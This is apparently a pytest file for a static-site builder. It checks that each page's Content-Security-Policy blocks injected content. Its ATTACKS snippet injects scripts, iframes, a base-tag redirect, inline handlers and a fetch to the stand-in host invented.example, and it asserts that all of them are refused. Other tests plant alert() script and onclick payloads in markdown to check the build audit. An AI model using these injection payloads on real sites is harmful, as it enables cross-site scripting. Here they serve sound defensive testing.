"""Each page tells browsers to load everything from this site, and to run and draw nothing that stands in the page."""

import re
from base64 import b64encode
from hashlib import sha256

import pytest
from a_project import minutes, page_addresses, tree
from folders import DATA
from states import KINDS, STATES, arrive, one_page

from macros.site.built import BuiltPage
from macros.site.policy import sealed

NO_STYLE = {
    "default-src": "'none'", "script-src": "'self'", "connect-src": "'self'", "img-src": "'self'",
    "form-action": "'self'", "base-uri": "'none'",
}  # fmt: skip
NOTE = "addEventListener('securitypolicyviolation', (event) => console.error('refused ' + event.violatedDirective))"
# What somebody who got something into a page would try. None of it may happen.
ATTACKS = """async (home) => {
  const added = (tag, given, where = document.body) => where.append(Object.assign(document.createElement(tag), given));
  added('script', { textContent: 'window.hacked = 1' });
  added('script', { src: 'https://invented.example/a.js' });
  added('script', { src: 'data:text/javascript,window.hacked=1' });
  added('img', { src: 'https://invented.example/a.png' });
  added('iframe', { src: 'https://invented.example/' });
  added('base', { href: 'https://invented.example/' }, document.head);
  added('style', { textContent: 'body { display: none }' });
  const button = document.createElement('button');
  button.setAttribute('onclick', 'window.hacked = 1');
  button.setAttribute('style', 'position: fixed');
  document.body.append(button);
  button.click();
  const sent = await fetch('https://invented.example/').then(() => 'sent', () => 'refused');
  await new Promise((done) => setTimeout(done, 100));
  return [window.hacked, sent, getComputedStyle(document.body).display === "none", getComputedStyle(button).position,
          document.baseURI.startsWith('https://invented')];
}"""


def policy(page):
    [found] = page.xpath("/html/head/meta[@http-equiv='Content-Security-Policy']/@content")
    return {words[0]: " ".join(words[1:]) for words in (rule.split() for rule in found.split(";"))}


def hashed(text):
    return f"'sha256-{b64encode(sha256(text.encode()).digest()).decode()}'"


def test_every_page_has_the_policy_and_only_its_own_two_styles_count(record_site, toy_site, hostile_site):
    for site in (record_site, toy_site, hostile_site):
        for file in [*(f"{address}index.html" for address in page_addresses(site)), "404.html"]:
            page = tree(site / file)
            [sheet] = page.xpath("//style/text()")
            styles = policy(page).pop("style-src").split()
            assert styles == ["'self'", hashed(sheet), "'unsafe-hashes'", hashed(page.get("style"))], file
            assert policy(page) == {**NO_STYLE, "style-src": " ".join(styles)}, file
            scripts = page.xpath("//script[not(@src or @type='application/ld+json')]")
            assert [*scripts, *page.xpath("//body//@style | //@*[starts-with(name(), 'on')]")] == [], file


@pytest.mark.parametrize("where", ["served", "disk"])
def test_no_page_in_any_state_asks_for_what_its_policy_refuses(browser, toy_site, toy_home, where):
    home = toy_home if where == "served" else f"{toy_site.as_uri()}/"
    said = []
    with one_page(browser) as page:
        page.add_init_script(NOTE)
        page.on("console", lambda message: said.append(message.text))
        page.on("pageerror", lambda error: said.append(str(error)))
        for name, address in KINDS.items():
            if where == "disk" and name == "wrong address":  # which only a server shows
                continue
            file = address if where == "served" or address.endswith(".html") else f"{address}index.html"
            arrive(page, home, file)
            page.emulate_media(media="print")
            assert page.evaluate("getComputedStyle(document.documentElement).getPropertyValue('--group')"), name
            page.emulate_media(media="screen")
            assert page.evaluate("[...document.styleSheets].map((sheet) => sheet.href).length") > 1, name
        for address, bring in STATES.values() if where == "served" else ():
            arrive(page, home, address)
            bring(page)
    told = [line for line in said if "origin 'null' has been blocked by CORS" not in line]
    assert [line for line in told if "Failed to load resource: net::ERR_FAILED" not in line] == []


def test_what_gets_into_a_page_runs_nothing_and_sends_nothing(browser, toy_home):
    asked = []
    with one_page(browser) as page:
        page.route("https://invented.example/**", lambda route: asked.append(route.request.url) or route.abort())
        for name in ("about", "tracker", "search", "meeting held", "wrong address"):
            arrive(page, toy_home, KINDS[name])
            assert page.evaluate(ATTACKS, toy_home) == [None, "refused", False, "static", False], name
    assert asked == []


def test_the_audit_names_a_script_or_style_that_the_policy_refuses(project):
    about = project / "docs/about/index.md"
    about.write_text(
        about.read_text(encoding="utf-8").replace(
            "## How",
            '<script>alert(1)</script>\n<style>p { color: red }</style>\n<p onclick="alert(2)">Invented</p>\n'
            '<p style="color: red">Invented</p>\n\n## How',
        ),
        encoding="utf-8",
    )
    done = minutes(project, "build")
    said = "about/index.html: browsers are told to refuse a script or style within the page; move it to a file: "
    for text in ("alert(1)", "p { color: red }", "alert(2)", "color: red"):
        assert f"{said}'{text}'\n" in done.stdout
    assert done.returncode == 1


def test_a_table_with_columns_to_the_right_is_drawn_so(project):
    with (project / "docs/about/index.md").open("a", encoding="utf-8") as page:
        page.write("\n| Invented | Number |\n|---|---:|\n| One | 1 |\n")
    assert minutes(project, "build").returncode == 0
    [cell] = tree(project / "site/about/index.html").xpath("//td[text()='1']")
    assert dict(cell.attrib) == {"align": "right"}


def test_a_page_of_another_theme_is_left_as_it_is():
    page = "<html><head><style>p {}</style></head></html>"
    assert sealed(page) == page
    assert BuiltPage("a.html", tree_of(page)).refused == []


def tree_of(page):
    from lxml import html

    return html.document_fromstring(page)


def test_the_forms_and_the_preview_run_no_script_of_the_page():
    for file in ("macros/office/forms/edit.html", "macros/review/preview/preview.html"):
        text = (DATA.parent.parent / file).read_text(encoding="utf-8")
        [rules] = re.findall(r'Content-Security-Policy" content="([^"]*)"', text)
        assert rules.startswith("default-src 'none'; ")
        assert "script-src" not in rules or re.search(r"script-src 'self'( {{ imports_hash }})?;", rules)
